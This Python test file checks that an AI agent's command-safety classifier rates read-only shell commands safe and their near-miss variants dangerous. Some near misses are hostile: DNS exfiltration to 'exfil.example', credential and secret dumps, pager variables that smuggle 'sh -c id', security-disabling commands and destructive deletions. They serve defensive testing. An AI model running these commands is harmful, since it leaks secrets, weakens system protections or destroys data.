"""Read-only commands are not asked about, and the command one step further is.

Each pair is a realistic read-only command (rated safe: a pack proves every option, and no
rule fires) and a near miss of the same program (an option, sub-command, script or variable
that writes, runs a program, prints a secret or sends data), which must stay at least
dangerous. The near misses are data: they are classified, never run.
"""

from __future__ import annotations

import pytest

from engine.gate.classifier import Classifier
from engine.gate.paths import is_system_program, is_tool_config
from engine.gate.verdict import Level
from engine.tools.call import ToolCall

PAIRS = [
    # Terraform: its configuration is tool configuration, so plan and validate run only what a person let in.
    ("terraform plan", "terraform plan -out=tfplan"),
    ("terraform plan -input=false -no-color -lock=false", "TF_CLI_ARGS_plan=-out=x terraform plan"),
    ("terraform plan -destroy -no-color", "terraform apply -destroy"),
    ("terraform plan -refresh-only -var 'region=eu-west-1' -var-file=prod.tfvars",
     "terraform plan -generate-config-out=generated.tf"),
    ("terraform -chdir=infra plan -target=module.vpc", "TF_CLI_CONFIG_FILE=dev.tfrc terraform plan"),
    ("terraform validate", "TF_DATA_DIR=/tmp/tf terraform validate"),
    ("terraform validate -json -no-color", "TF_PLUGIN_CACHE_DIR=/tmp/plugins terraform validate"),
    ("terraform show", "terraform show -json"),
    ("terraform show -no-color tfplan", "terraform show -json tfplan"),
    ("terraform state show aws_instance.web", "terraform state pull"),
    ("terraform state list -id=i-0abc", "terraform state rm aws_instance.web"),
    ("terraform output", "terraform output -raw db_password"),
    ("terraform graph -type=plan", "terraform console"),
    ("terraform providers schema -json", "terraform providers lock"),
    ("terraform workspace show", "terraform workspace select prod"),
    ("tofu plan -no-color", "tofu apply"),
    # Rules whose condition caught a read.
    ("date -d @1700000000", "date -s @1700000000"),
    ("date -d yesterday +%F", "date --set=yesterday"),
    ("date --date='2 days ago' +%Y-%m-%d", "date 0101000020"),
    ("aws sts get-caller-identity", "aws sts assume-role --role-arn arn:aws:iam::1:role/x --role-session-name s"),
    ("doppler secrets --only-names", "doppler secrets"),
    ("npm audit", "npm audit fix"),
    ("npm audit --json --omit=dev", "npm audit fix --force"),
    ("npm config list", "npm config set registry http://registry.example"),
    ("npm config get registry", "npm config edit"),
    ("npm pkg get name version", "npm pkg set name=x"),
    ("npm outdated --long", "npm update"),
    ("npm -v", "npm exec -- left-pad"),
    ("nft list ruleset", "nft flush ruleset"),
    ("nft -a list table inet filter", "nft add table inet x"),
    ("auditctl -l", "auditctl -D"),
    ("auditctl -s", "auditctl -e 0"),
    ("csrutil status", "csrutil disable"),
    ("spctl --status", "spctl --master-disable"),
    ("spctl --assess -v /Applications/Safari.app", "spctl --add /Applications/Tool.app"),
    ("security list-keychains", "security list-keychains -s other.keychain"),
    ("security find-certificate -a -p", "security find-generic-password -wa service"),
    ("certutil -hashfile setup.exe SHA256", "certutil -urlcache -f https://files.example/a.exe a.exe"),
    ("zpool status -v tank", "zpool status -c smart tank"),
    ("zpool iostat -v 5 3", "zpool iostat -c media"),
    ("sqlite3 app.db .tables", "sqlite3 app.db '.shell id'"),
    ("sqlite3 app.db '.schema users'", "sqlite3 app.db '.output dump.sql'"),
    ("sqlite3 -safe -readonly -header -column app.db 'SELECT id, name FROM users LIMIT 5'",
     "sqlite3 -safe app.db 'DELETE FROM users'"),
    ("sqlite3 -safe app.db 'select count(*) from orders where total > 100'",
     "sqlite3 -safe app.db \"select writefile('x', 'y')\""),
    ("sqlite3 -safe -json app.db 'SELECT * FROM users' '.indexes users'", "sqlite3 -init setup.sql app.db .tables"),
    ("sqlite3 app.db '.indexes users'", "sqlite3 app.db 'SELECT * FROM users'"),
    ("sqlite3 -safe app.db .dump", "sqlite3 app.db .dump"),
    ("psql -c '\\dt'", "psql -c 'drop table users'"),
    ("psql -h localhost -U app -d shop -c '\\d users'", "psql -c '\\! id'"),
    ("psql -d shop -c '\\dt'", "psql -h db.example -c \"SELECT 'data'\""),
    ("psql postgres://app@localhost/shop -c '\\l'", "psql postgres://app@db.example/shop -c '\\l'"),
    ("psql -X -At -c 'SELECT count(*) FROM orders'", "psql -c 'SELECT pg_terminate_backend(42)'"),
    ("psql -l", "psql -f migrate.sql"),
    ("/usr/libexec/java_home -V", "/usr/libexec/PlistBuddy -c 'Delete :CFBundleName' Info.plist"),
    ("/usr/libexec/PlistBuddy -c 'Print :CFBundleVersion' Info.plist", "tools/java_home -V"),
    ("/opt/homebrew/bin/jq .name package.json", "/opt/homebrew/bin/../../../tmp/jq .name package.json"),
    # Readers without a table until now.
    ("fd -e py", "fd -e py -x rm"),
    ("fd --type f --hidden --exclude node_modules config src", "fd -t f -X wc -l"),
    ("fdfind -t d -d 2 src", "fdfind -e tmp --exec-batch echo"),
    ("bat README.md", "bat --pager 'sh -c id' README.md"),
    ("bat -n --style=plain --paging=never src/main.rs", "BAT_PAGER='sh -c id' bat README.md"),
    ("batcat -p -l json data.json", "batcat --config-file=my.conf README.md"),
    ("eza -la --git --group-directories-first", "eza -la > listing.txt"),
    ("exa -l --tree --level=2", "exa -l --frobnicate"),
    ("lsd -la --tree --depth 2", "lsd --config-file x.yaml"),
    ("xmllint --noout pom.xml", "xmllint --output out.xml pom.xml"),
    ("xmllint --xpath '//version/text()' pom.xml", "xmllint --shell pom.xml"),
    ("xmllint --format --nonet config.xml", "xmllint --noent --xinclude evil.xml"),
    ("gron data.json", "gron https://api.example/data.json"),
    ("tokei", "tokei --frobnicate"),
    ("tokei -o json src", "tokei src > counts.txt"),
    ("cloc --by-file --exclude-dir=node_modules src", "cloc --extract-with='sh -c id' src.tar"),
    ("scc --no-cocomo -f json .", "scc -o report.json ."),
    ("units '1 mile' km", "units --log units.log '1 mile' km"),
    ("bc -l <<< 'scale=2; 10/3'", "BC_ENV_ARGS=defs.bc bc -l <<< '1+1'"),
    ("echo '2^10' | bc", "echo '2^10' | dc -e '!id'"),
    ("getent passwd alice", "getent shadow alice"),
    ("getent group docker", "getent hosts $(whoami).exfil.example"),
    ("ulimit -a", "ulimit -n 1"),
    ("ulimit -n", "ulimit -c unlimited"),
    ("alias", "alias ls='rm -rf'"),
    ("printenv HOME", "printenv AWS_SECRET_ACCESS_KEY"),
    ("printenv PATH SHELL", "printenv"),
    ("lsb_release -a", "lsb_release --frobnicate"),
    # Packages.
    ("rpm -qa", "rpm -e openssl"),
    ("rpm -qi bash", "rpm -ivh pkg.rpm"),
    ("rpm -ql openssl", "rpm -qa --dbpath /tmp/db"),
    ("rpm -qf /usr/bin/ls", "rpm -q --qf '%{NAME}' --pipe 'sh' bash"),
    ("dpkg-query -W -f='${Package}\\n'", "dpkg -i package.deb"),
    # Keys and signatures.
    ("ssh-add -l", "ssh-add ~/.ssh/id_rsa"),
    ("ssh-add -L", "ssh-add -D"),
    ("codesign -dv --verbose=4 /Applications/Safari.app", "codesign --force --sign - App.app"),
    ("codesign --verify --deep --strict App.app", "codesign --remove-signature App.app"),
    # macOS.
    ("plutil -p Info.plist", "plutil -convert xml1 Info.plist"),
    ("plutil -lint Info.plist", "plutil -replace CFBundleVersion -string 2 Info.plist"),
    ("mdfind -name report.pdf", "mdutil -E /"),
    ("mdls -name kMDItemContentType file.pdf", "mdls -name kMDItemContentType file.pdf > meta.txt"),
    ("xcode-select -p", "xcode-select --switch /tmp/Xcode.app"),
    ("xcrun --show-sdk-path", "xcrun clang main.c"),
    ("otool -L /bin/ls", "otool -L /bin/ls > libs.txt"),
    ("defaults read com.apple.dock", "defaults write com.apple.dock autohide -bool true"),
    ("sw_vers -productVersion", "sw_vers --frobnicate"),
    ("system_profiler SPHardwareDataType", "system_profiler -xml > hw.xml"),
    ("scutil --get ComputerName", "scutil --set ComputerName mac"),
    ("scutil --dns", "scutil --proxy-set"),
    ("networksetup -listallhardwareports", "networksetup -setdnsservers Wi-Fi 1.1.1.1"),
    ("networksetup -getinfo Wi-Fi", "networksetup -setairportpower en0 off"),
    ("pmset -g batt", "pmset -a sleep 0"),
    ("ioreg -l -w0", "ioreg -frobnicate"),
    ("diskutil list", "diskutil eraseDisk APFS X disk2"),
    # Linux system state.
    ("lsmod", "rmmod e1000e"),
    ("modinfo e1000e", "modprobe -r e1000e"),
    ("dmidecode -t system", "dmidecode --dump-bin dmi.bin"),
    ("busctl list", "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager"
                    " StopUnit ss sshd.service replace"),
    ("resolvectl status", "resolvectl dns eth0 1.1.1.1"),
    ("nmcli general status", "nmcli networking off"),
    ("nmcli device show", "nmcli device disconnect eth0"),
    ("nmcli connection show", "nmcli connection delete home"),
    ("nmcli -t -f NAME,DEVICE con show --active", "nmcli -s connection show home"),
    ("iwconfig", "iwconfig wlan0 essid open"),
    ("ethtool eth0", "ethtool -s eth0 speed 100"),
    ("ethtool -i eth0", "ethtool -K eth0 tso off"),
    ("ifconfig -a", "ifconfig eth0 down"),
    ("arp -an", "arp -d 10.0.0.1"),
    ("route -n", "route add default gw 10.0.0.1"),
    ("timedatectl status", "timedatectl set-time '2020-01-01'"),
    ("hostnamectl", "hostnamectl set-hostname box"),
    ("localectl status", "localectl set-locale LANG=C"),
    ("loginctl list-users", "loginctl terminate-user bob"),
    ("sysctl -n hw.ncpu", "sysctl -w net.ipv4.ip_forward=1"),
    ("sysctl kern.ostype", "sysctl kernel.randomize_va_space=0"),
    # Containers.
    ("docker compose ps", "docker compose up -d"),
    ("docker compose logs --tail=50 api", "docker compose exec api sh"),
    ("docker network ls", "docker network rm backend"),
    ("docker volume ls", "docker volume prune -f"),
    ("docker system df", "docker system prune -af"),
    ("docker network inspect bridge", "docker network connect bridge web"),
    # Hashes, random bytes and encodings; schedulers, terminals and system activity looked at.
    ("openssl rand -hex 16", "openssl rand -out key.bin 32"),
    ("openssl dgst -sha256 release.tar.gz", "openssl dgst -sha256 -sign key.pem release.tar.gz"),
    ("openssl enc -base64 -in notes.txt", "openssl enc -d -aes-256-cbc -in secret.enc -k hunter2"),
    ("openssl list -digest-algorithms", "openssl s_client -connect example.com:443"),
    ("uuidgen", "uuidgen > id.txt"),
    ("crontab -l", "crontab -r"),
    ("stty size", "stty -echo"),
    ("tput cols", "tput init"),
    ("sar -u 1 3", "sar -o activity.bin 1 3"),
    ("fuser -v /var/lib/dpkg/lock", "fuser -k 8080/tcp"),
    ("top -l 1 -n 10", "top -b -n 1 > top.txt"),
    ("kubectl rollout status deploy/web", "kubectl rollout restart deploy/web"),
    ("kubectl rollout history deploy/web --revision=3", "kubectl rollout undo deploy/web"),
    ("aws logs tail /aws/lambda/fn --since 1h", "aws logs delete-log-group --log-group-name /aws/lambda/fn"),
    # Toolchains and package managers asked what they have.
    ("npm run", "npm run build"),
    ("cargo --list", "cargo build"),
    ("pipx list --short", "pipx install black"),
    ("poetry check", "poetry show --tree"),
    ("conda env list", "conda create -n x python"),
    ("rustup toolchain list", "rustup default nightly"),
    ("dotnet --list-sdks", "dotnet build"),
    ("gcc --version", "gcc -o app main.c"),
    ("java -version", "JAVA_TOOL_OPTIONS=-javaagent:agent.jar java -version"),
    ("rustc -vV", "rustc main.rs"),
    # Shell built-ins and idioms of scripts.
    ("set -euo pipefail; ls", "set -k; ls"),
    ("set -x", "set +o history"),
    ("set -o", "set -- rm -rf /"),
    ("shopt -p nullglob", "shopt -s extglob"),
    ("while IFS= read -r line; do echo \"$line\"; done < input.txt", "IFS=_ read -r a b <<< x_y"),
    ("mapfile -t lines < list.txt", "mapfile -t -C 'sh -c id' lines < list.txt"),
    ("compgen -c", "compgen -C 'id' x"),
    ("kill -0 1234", "kill -9 1234"),
    ("atq", "atrm 3"),
    ("at -l", "at now + 1 minute"),
    # Windows.
    ("bcdedit", "bcdedit /set {current} safeboot minimal"),
    ("powercfg /list", "powercfg /setactive SCHEME_MIN"),
    ("powercfg /query", "powercfg /batteryreport"),
    ("fsutil fsinfo drives", "fsutil usn deletejournal /d C:"),
    ("fsutil volume diskfree C:", "fsutil file setzerodata offset=0 length=100 C:\\data.bin"),
    ("pnputil /enum-drivers", "pnputil /delete-driver oem1.inf /uninstall"),
    ("dism /online /get-features /format:table", "dism /online /disable-feature /featurename:Windows-Defender"),
    ("winget list", "winget install Mozilla.Firefox"),
    ("winget search vscode", "winget uninstall vscode"),
    ("choco list --local-only", "choco install git -y"),
    ("scoop list", "scoop install git"),
    ("openfiles /query /fo csv", "openfiles /disconnect /id 1"),
    ("Import-Csv .\\data.csv | Select-Object -First 5", "Import-Csv .\\data.csv | Remove-Item"),
    ("mount", "mount /dev/sdb1 /mnt"),
    ("mount -l -t ext4", "mount -o remount,rw /"),
    ("snap list", "snap install code --classic"),
    ("flatpak list --app", "flatpak install flathub org.gimp.GIMP"),
    ("mysql --version", "mysql -e 'DROP DATABASE shop'"),
    ("wget --version", "wget https://files.example/tool.sh"),
    ("ping -c 3 localhost", "ping -c 3 example.com"),
    ("ping6 -c 1 ::1", "ping -c 1 -p 6869 127.0.0.1 10.0.0.1"),
    ("resolvectl dns eth0", "resolvectl dns eth0 1.1.1.1"),
    ("pidstat 1 3", "pidstat -p 1 1 > stats.txt"),
    ("bridge link show", "bridge link set dev eth0 state 0"),
    ("coredumpctl list", "coredumpctl debug"),
    ("udevadm info /dev/sda", "udevadm trigger"),
    ("terraform -version", "terraform init"),
    ("docker diff web", "docker rm web"),
    ("ssh -V", "ssh -V host.example"),
    ("mypy --version", "mypy src"),
    # Linters and formatters that only check.
    ("shellcheck -x -S warning scripts/build.sh", "shellcheck --rcfile=my.rc scripts/build.sh"),
    ("black --check --diff src/", "black src/"),
    ("ruff check --select E,F src", "ruff check --fix src"),
    ("ruff format --check .", "ruff format ."),
    ("isort --check-only --diff .", "isort ."),
    ("gofmt -l .", "gofmt -w main.go"),
    ("clang-format --dry-run --Werror src/main.c", "clang-format -i src/main.c"),
    ("rustfmt --check src/main.rs", "rustfmt src/main.rs"),
    ("cargo fmt --check", "cargo fmt"),
    ("yamllint -s .", "yamllint . > report.txt"),
    ("hadolint Dockerfile", "hadolint Dockerfile > lint.txt"),
    ("shfmt -d -i 2 script.sh", "shfmt -w script.sh"),
    # Archives listed or read to standard output.
    ("gunzip -c logs.gz", "gunzip logs.gz"),
    ("7z l archive.7z", "7z x archive.7z"),
    ("7z l -slt archive.7z", "7z l -oout archive.7z"),
    ("unrar l archive.rar", "unrar x archive.rar"),
    ("zstd -dc data.zst", "zstd data"),
    ("objdump -d a.out", "objdump @options a.out"),
    # Transfers to this machine with a trust store.
    ("curl --cacert ca.pem https://localhost:8443/health", "curl --cacert ca.pem https://api.example/health"),
    # Pager variables set to nothing or to cat print as the program would.
    ("GIT_PAGER=cat git log -5", "GIT_PAGER='sh -c id' git log -5"),
    ("PAGER=cat man ls", "PAGER=./pager man ls"),
    ("AWS_PAGER='' aws s3 ls", "AWS_PAGER='sh -c id' aws s3 ls"),
    ("SYSTEMD_PAGER= systemctl status nginx", "SYSTEMD_PAGER=./x systemctl status nginx"),
    # macOS preferences read, never written, deleted, imported or exported to a file.
    ("defaults read -g AppleInterfaceStyle", "defaults delete -g AppleInterfaceStyle"),
    ("defaults read -globalDomain AppleLanguages", "defaults write -g AppleShowAllExtensions -bool true"),
    ("defaults domains", "defaults import com.apple.dock dock.plist"),
    ("defaults read-type com.apple.dock autohide", "defaults export com.apple.dock dock.plist"),
    ("defaults -currentHost read com.apple.screensaver idleTime", "defaults -currentHost write com.apple.screensaver"
                                                                  " idleTime 0"),
    ("defaults read -app Safari", "defaults rename com.apple.dock autohide hide"),
    ("defaults read", "defaults read com.apple.dock autohide extra"),
    # GPUs queried, never reconfigured, reset or logged to a file.
    ("nvidia-smi", "nvidia-smi -pm 1"),
    ("nvidia-smi --query-gpu=name,memory.used,utilization.gpu --format=csv,noheader,nounits", "nvidia-smi -pl 150"),
    ("nvidia-smi -L", "nvidia-smi -r -i 0"),
    ("nvidia-smi -q -i 0", "nvidia-smi -q -f gpu.txt"),
    ("nvidia-smi --id=0 -q -d MEMORY,UTILIZATION", "nvidia-smi -i 0 -c EXCLUSIVE_PROCESS"),
    ("nvidia-smi --query-compute-apps=pid,used_memory --format=csv", "nvidia-smi -lgc 300,300"),
    ("nvidia-smi -l 5 --query-gpu=temperature.gpu --format=csv", "nvidia-smi --gom=COMPUTE"),
    ("nvidia-smi topo -m", "nvidia-smi -ac 5001,1590"),
    ("nvidia-smi -x -q", "nvidia-smi -rac"),
    ("nvidia-smi -i 0 --query-gpu=pci.bus_id --format=csv", "nvidia-smi -e 0"),
    ("nvidia-smi --list-gpus", "nvidia-smi -mig 1"),
    ("nvidia-smi -q -d PERFORMANCE", "nvidia-smi --persistence-mode=1"),
    ("nvidia-smi --help", "nvidia-smi --filename=log.txt -q"),
    # Filesystems and block devices described, never tuned.
    ("tune2fs -l /dev/sda1", "tune2fs -O ^has_journal /dev/sda1"),
    ("tune2fs -l /dev/nvme0n1p2", "tune2fs -l -L data /dev/sda1"),
    ("dumpe2fs -h /dev/sda1", "dumpe2fs -h /dev/sda1 > superblock.txt"),
    ("dumpe2fs -b /dev/mapper/vg-root", "dumpe2fs -z undo /dev/sda1"),
    ("xfs_info /", "xfs_growfs /"),
    ("xfs_info /dev/sdb1", "xfs_admin -L data /dev/sdb1"),
    ("btrfs filesystem show", "btrfs filesystem resize max /"),
    ("btrfs filesystem df /", "btrfs filesystem defragment -r /"),
    ("btrfs filesystem usage -T /", "btrfs subvolume delete /mnt/snap"),
    ("lsblk -o NAME,SIZE,TYPE,MOUNTPOINT -J", "lsblk -o NAME > disks.txt"),
    ("lsblk -dno NAME,ROTA", "lsblk --frobnicate"),
    ("blockdev --getsize64 /dev/sda", "blockdev --setro /dev/sda"),
    ("blockdev --getss /dev/nvme0n1", "blockdev --setra 0 /dev/sda"),
    ("blockdev --report", "blockdev --setrw /dev/sda"),
    ("mountpoint -q /mnt", "umount /mnt"),
    ("mountpoint -x /dev/sda1", "mountpoint -q /mnt > state.txt"),
    # Installed software listed, never installed, forgotten or expanded.
    ("pkgutil --pkgs", "pkgutil --forget com.example.tool"),
    ("pkgutil --pkg-info com.apple.pkg.CLTools_Executables", "pkgutil --expand tool.pkg out"),
    ("pkgutil --files com.apple.pkg.CLTools_Executables", "pkgutil --flatten dir out.pkg"),
    ("pkgutil --pkgs=com.apple.*", "pkgutil --learn /usr/local/bin/tool"),
    ("softwareupdate --list", "softwareupdate -i -a"),
    ("softwareupdate -l", "softwareupdate --install --all --restart"),
    ("softwareupdate --history", "softwareupdate --schedule off"),
    ("brew list", "brew uninstall wget"),
    ("brew info wget", "brew install wget"),
    ("brew deps --tree wget", "brew upgrade"),
    ("brew leaves", "brew cleanup"),
    ("brew outdated", "brew tap user/repo"),
    ("brew config", "brew services start postgresql"),
    ("port installed", "port install wget"),
    ("port outdated", "port upgrade outdated"),
    ("port info wget", "port info"),
    ("port deps wget", "port -F commands.txt"),
    ("mas list", "mas install 497799835"),
    ("mas outdated", "mas upgrade"),
    ("apt list --installed", "apt install htop"),
    ("apt list --upgradable", "apt upgrade -y"),
    ("apt-mark showmanual", "apt-mark hold openssl"),
    ("apt-mark showhold", "apt-mark auto libssl3"),
    ("dpkg -l", "dpkg -r openssl"),
    ("dpkg -L coreutils", "dpkg --purge coreutils"),
    ("dpkg -S /bin/ls", "dpkg --set-selections"),
    ("dpkg -s bash", "dpkg --configure -a"),
    ("dpkg --get-selections", "dpkg --clear-selections"),
    ("pip list", "pip install requests"),
    ("pip show requests", "pip uninstall -y requests"),
    ("pip freeze", "pip freeze > requirements.txt"),
    ("npm ls", "npm install left-pad"),
    ("npm view react version", "npm publish"),
    ("cargo --version", "cargo install ripgrep"),
    ("go version", "go run main.go"),
    ("go env GOPATH", "go env -w GOPROXY=https://proxy.example"),
    # Files, mounts, locks, sessions and boot described.
    ("lsattr -d /etc", "chattr +i /etc/passwd"),
    ("getcap /usr/bin/ping", "setcap cap_net_raw+ep ./tool"),
    ("getcap -r /usr/bin", "getcap -r /usr/bin > caps.txt"),
    ("namei -l /usr/bin/python3", "namei -l /usr/bin/python3 > chain.txt"),
    ("findmnt -T /home", "findmnt -T /home > mounts.txt"),
    ("lslocks", "lslocks --frobnicate"),
    ("lsns -t net", "nsenter -t 1 -n ip link"),
    ("lsipc", "ipcrm -a"),
    ("w -h", "wall 'going down'"),
    ("last -n 10", "last -n 10 > logins.txt"),
    ("who -b", "who -b > boot.txt"),
    ("runlevel", "telinit 1"),
    ("systemd-analyze blame", "systemd-analyze set-log-level debug"),
    ("systemd-analyze time", "systemd-analyze -H admin@server.example blame"),
    ("systemd-analyze critical-chain nginx.service", "systemd-analyze --generators=yes dot"),
    ("systemd-analyze security --no-pager sshd.service", "SYSTEMD_PAGER=./pager systemd-analyze blame"),
    ("hostnamectl status", "hostnamectl hostname box"),
    ("timedatectl show", "timedatectl set-ntp false"),
    ("localectl list-locales", "localectl set-keymap us"),
]

# Reads left unproven on purpose: each runs checks or loads code the agent could have written
# (`brew doctor` runs its checks and external commands, `rustup show` may install the pinned
# toolchain, `gem` loads plugins from its load path, `mvn` reads `.mvn/jvm.config` from the project,
# `gradle` runs init scripts), or restarts services (`needrestart`).
UNPROVEN_ON_PURPOSE = ["brew doctor", "rustup show", "gem list", "mvn -v", "gradle -v", "needrestart -b"]

# Reads that stay asked about on purpose: they print secrets (the clipboard, a named Terraform output,
# the environment, shell history), send a query to another host (DNS, ICMP), start an interactive
# program that can kill processes, or capture other programs' traffic.
STILL_ASKED = ["pbpaste", "Get-Clipboard", "Get-BitLockerVolume", "Test-Connection -ComputerName example.com",
               "terraform show -json tfplan", "terraform output db_password", "printenv", "env", "history",
               "dig example.com", "ping -c 1 example.com", "getent hosts example.com", "htop",
               "tcpdump -i any -c 10", "docker compose config", "nmcli -s connection show home"]

WINDOWS_TOOL_CONFIG = ["ipconfig.bat", "tasklist.cmd", "tools\\where.exe", "Microsoft.PowerShell_profile.ps1",
                       "profile.ps1", "Modules/Util/Util.psm1", "Modules/Util/Util.psd1", "run.vbs", "job.wsf",
                       "ipconfig.com", "whoami.js", "hostname.py"]
OTHER_TOOL_CONFIG = ["main.tf", "infra/modules/vpc/variables.tf", "main.tf.json", "prod.tfvars", "prod.tfvars.json",
                     ".terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws",
                     ".terraform", ".terraform.lock.hcl", ".terraformrc", "terraform.rc", "tests/main.tftest.hcl",
                     "main.tofu", ".terraform.d/plugins/x", ".lesskey", ".less", ".ackrc", ".manpath", ".vault",
                     ".sqliterc", ".psqlrc"]
NOT_TOOL_CONFIG = ["src/app.py", "notes.txt", "README.md", "docs/terraform.md", "web/app.js", "scripts/build.py",
                   "sites/example.com.conf", "main.tf.bak.txt"]


@pytest.fixture(scope="module")
def classifier() -> Classifier:
    return Classifier()


def _rate(classifier: Classifier, command: str):
    return classifier.classify(ToolCall("shell.run", {"command": command}))


@pytest.mark.parametrize(("command", "near_miss"), PAIRS)
def test_read_only_command_is_safe_and_its_near_miss_is_not(classifier: Classifier, command: str,
                                                            near_miss: str) -> None:
    verdict = _rate(classifier, command)
    assert verdict.level is Level.SAFE, f"{command!r}: {verdict}"
    missed = _rate(classifier, near_miss)
    assert missed.level >= Level.DANGEROUS, f"{near_miss!r}: {missed}"


@pytest.mark.parametrize("command", STILL_ASKED)
def test_reads_that_print_secrets_or_send_queries_stay_asked(classifier: Classifier, command: str) -> None:
    assert _rate(classifier, command).level >= Level.DANGEROUS, command


@pytest.mark.parametrize("command", UNPROVEN_ON_PURPOSE)
def test_reads_that_run_checks_or_project_code_stay_asked(classifier: Classifier, command: str) -> None:
    assert _rate(classifier, command).level >= Level.DANGEROUS, command


@pytest.mark.parametrize("path", [*OTHER_TOOL_CONFIG, *WINDOWS_TOOL_CONFIG])
def test_configuration_a_proven_program_obeys_needs_a_person_to_write(classifier: Classifier, path: str) -> None:
    """Terraform's configuration and providers, pager and database client start-up files, and
    Windows programs and scripts cmd.exe would find in the working directory before its own
    (`ipconfig.bat`, `whoami.js`): writing one is asked about, by file tool and by shell."""
    assert is_tool_config(path), path
    written = classifier.classify(ToolCall("fs.write", {"path": path, "content": "x"}))
    assert written.level is Level.DANGEROUS and "fs.tool-config" in written.rules, f"{path}: {written}"
    redirected = _rate(classifier, f"echo x > '{path}'")
    assert "fs.write-tool-config" in redirected.rules, f"{path}: {redirected}"


@pytest.mark.parametrize("path", NOT_TOOL_CONFIG)
def test_ordinary_files_stay_ordinary(path: str) -> None:
    assert not is_tool_config(path), path


def test_system_program_directories_are_root_owned_trees() -> None:
    assert is_system_program("/usr/libexec/java_home")
    assert is_system_program("/usr/libexec/ApplicationFirewall/socketfilterfw")
    assert is_system_program("/System/Library/PrivateFrameworks/Apple80211.framework/Resources/airport")
    assert is_system_program("/opt/homebrew/bin/jq")
    assert not is_system_program("/usr/libexec/../../tmp/x")
    assert not is_system_program("/opt/tools/jq")
    assert not is_system_program("/Systemx/ls")
